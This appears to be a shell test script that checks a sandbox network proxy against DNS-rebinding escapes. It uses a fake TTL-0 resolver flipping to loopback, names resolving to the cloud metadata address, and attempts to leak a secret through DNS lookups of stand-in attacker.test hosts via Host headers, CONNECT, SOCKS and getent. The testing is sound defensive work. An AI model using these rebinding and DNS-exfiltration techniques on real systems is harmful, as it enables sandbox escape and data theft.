#!/bin/bash
# Escape class: DNS (N4). An allowed wildcard
# whose names resolve to loopback, metadata, unspecified, mapped or NAT64
# addresses must be refused by the resolved-address guard, with nothing
# reaching the listeners there; a name the policy refuses is never looked
# up, whichever way it is asked for (plain HTTP, Host header, CONNECT,
# SOCKS5, case, trailing dot); DNS straight from the sandbox reaches no
# resolver. The test runs in network and mount namespaces of its own:
# /etc/hosts is a test file there (c-ares reads it first) and
# /etc/resolv.conf names 127.0.0.1, where a UDP listener logs every query
# that would have gone to a real resolver; no query can leave the machine.
NETNS_UNSHARE=-rnm # /etc/hosts and resolv.conf are bound over below
. "$(dirname "$0")/netns.sh"
cat > "$WORK/hosts" <<EOF2
127.0.0.1 localhost
::1 localhost ip6-localhost
127.0.0.1 a.rebind.test
127.0.0.2 b.rebind.test
169.254.169.254 m.rebind.test
fd00:ec2::254 m6.rebind.test
::ffff:127.0.0.1 mapped.rebind.test
::ffff:169.254.169.254 mapped-m.rebind.test
64:ff9b::7f00:1 nat64.rebind.test
2002:7f00:1:: sixtofour.rebind.test
0.0.0.0 zero.rebind.test
::1 v6.rebind.test
192.0.2.10 mixed.rebind.test
127.0.0.1 mixed.rebind.test
EOF2
echo "nameserver 127.0.0.1" > "$WORK/resolv.conf"
if ! netns_setup || ! mount --bind "$WORK/hosts" /etc/hosts 2>/dev/null ||
   ! mount --bind "$WORK/resolv.conf" /etc/resolv.conf 2>/dev/null; then
	skip "N4 needs network and mount namespaces of its own (unshare -rnm), ip(8) and mount(8)"
	echo "1..$_tap_n"; exit 0
fi
listen_any <<'PYEOF'
@accepting
def tcp(c, a):
    note("tcp %s" % a[0])
    c.close()
def udp(s):
    while True:
        d, a = s.recvfrom(4096)
        note("udp %s %r" % (a[0], d[:40]))
for fam, addr in ANY:
    t = bound(fam, socket.SOCK_STREAM, addr, port)
    t.listen(64)
    threading.Thread(target=tcp, args=(t,), daemon=True).start()
    # port 53 on 127.0.0.1 and ::1 only: 127.0.0.2:53 is the test resolver
    for a, p in ((addr, port), ("127.0.0.1" if fam == socket.AF_INET else "::1", 53)):
        try:
            x = bound(fam, socket.SOCK_DGRAM, a, p)
            threading.Thread(target=udp, args=(x,), daemon=True).start()
        except OSError:
            pass
PYEOF

S=$(net_settings '["*.rebind.test"]' '[]')
names="a b m m6 mapped mapped-m nat64 sixtofour zero v6 mixed"
requests_for "http connect socks" "$PORT" $(printf '%s.rebind.test ' $names) > "$P/requests"
proxy_batch -d -s "$S" >"$WORK/out" 2>"$WORK/err"
sleep 0.3
resolved=$(grep -c 'srt-proxy: resolving .*rebind.test' "$WORK/err")
attempt N4 "control: the proxy resolved the allowed names from the test hosts file ($resolved lookups)" \
	sh -c "[ '$resolved' -ge 11 ] && ! grep -q 'lookup failed' '$WORK/err'"
attempt N4 "no rebinding name got through ($(grep -c -- '-> 200' "$WORK/out") of $(grep -c -- '->' "$WORK/out"))" \
	sh -c "[ \$(grep -c -- '->' '$WORK/out') = 33 ] && ! grep -q -- '-> 200' '$WORK/out'"
attempt N4 "no listener got a connection ($(cat "$WORK/any.log" 2>/dev/null | wc -l))" test ! -s "$WORK/any.log"
for n in a m m6 mapped nat64 zero; do
	attempt N4 "$n.rebind.test refused by the address guard" grep -q "deny network-outbound $n.rebind.test:$PORT (resolved to" "$WORK/err"
done

# rebinding in time: a resolver (on the 127.0.0.1:53 of our namespace)
# answers flip.rebind.test with TTL 0, alternating 192.0.2.10 (no route
# here: the connection fails) and 127.0.0.1. A proxy that looked the name
# up again after its check, or on a retry, would reach the listener.
cat > "$WORK/flipdns.py" <<'PYEOF'
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.2", 53))
open(sys.argv[1], "w").close()
n = 0
while True:
    q, a = s.recvfrom(512)
    if len(q) < 12:
        continue
    i, name = 12, []
    while q[i]:
        name.append(q[i + 1:i + 1 + q[i]].decode(errors="replace")); i += q[i] + 1
    qtype = struct.unpack("!H", q[i + 1:i + 3])[0]
    qend = i + 5
    ans = b""
    if ".".join(name).lower() == "flip.rebind.test" and qtype == 1:
        ip = "192.0.2.10" if n % 2 == 0 else "127.0.0.1"
        n += 1
        ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0, 4) + socket.inet_aton(ip)
    flags = 0x8180 if ".".join(name).lower() == "flip.rebind.test" else 0x8183
    s.sendto(q[:2] + struct.pack("!HHHHH", flags, 1, 1 if ans else 0, 0, 0) + q[12:qend] + ans, a)
PYEOF
"$PY" "$WORK/flipdns.py" "$WORK/flipdns.up" & NET_PIDS="$NET_PIDS $!"
if ! wait_for "$WORK/flipdns.up" 50; then echo "Bail out! the test resolver did not start"; exit 1; fi
echo "nameserver 127.0.0.2" > "$WORK/resolv.conf"
rm -f "$WORK/any.log"
requests_for "http connect" "$PORT" flip.rebind.test flip.rebind.test flip.rebind.test \
	flip.rebind.test flip.rebind.test flip.rebind.test > "$P/requests"
proxy_batch -d -s "$S" >"$WORK/out" 2>"$WORK/err"
sleep 0.3
attempt N4 "rebinding in time: the name was looked up ($(grep -c 'resolving flip' "$WORK/err") times)" \
	test "$(grep -c 'resolving flip' "$WORK/err")" -ge 2
attempt N4 "rebinding in time: nothing reached the loopback listener, nothing got through" \
	sh -c "! grep -q '^tcp' '$WORK/any.log' 2>/dev/null && ! grep -q -- '-> 200' '$WORK/out'"
echo "nameserver 127.0.0.1" > "$WORK/resolv.conf"

# N4: a refused name is never looked up, however it is asked for
secret=$(printf 's3cr3t-%s' "$$" | base64 | tr -d '=\n' | tr 'A-Z' 'a-z')
cat > "$P/req-host" <<EOF2
GET http://a.rebind.test:$PORT/ HTTP/1.1
Host: $secret.hosthdr.attacker.test
@AUTH@

EOF2
printf '%s\n' "http $secret.plain.attacker.test:80" "http ${secret^^}.UPPER.ATTACKER.TEST.:80" \
	"connect $secret.connect.attacker.test:443" "socks $secret.socks.attacker.test 443" "raw req-host" > "$P/requests"
srt__run -d -s "$S" -c "/usr/bin/python3 $CLIENT batch < requests; getent hosts $secret.getent.attacker.test" >"$WORK/out" 2>"$WORK/err"
attempt N4 "refused names were never resolved (plain, upper case + dot, CONNECT, SOCKS5, Host header)" \
	sh -c "! grep -qi 'resolving.*attacker' '$WORK/err' && ! grep -qi 'attacker' '$WORK/any.log' 2>/dev/null"
attempt N4 "none of them got through" sh -c "! grep -q -- '-> 200' '$WORK/out'"

# DNS and other UDP straight from the sandbox reach nothing on the host
srt__run -s "$S" -c "/usr/bin/python3 -c '
import socket
for a in ((\"127.0.0.1\", 53), (\"127.0.0.1\", $PORT), (\"169.254.169.254\", 53)):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"$secret\", a)
    except OSError:
        pass
'; getent hosts $secret.udp.attacker.test; true" >/dev/null 2>&1
sleep 0.3
attempt N2 "no UDP datagram reached the host's listeners (53 and $PORT)" sh -c "! grep -q '$secret' '$WORK/any.log' 2>/dev/null"

echo "1..$_tap_n"
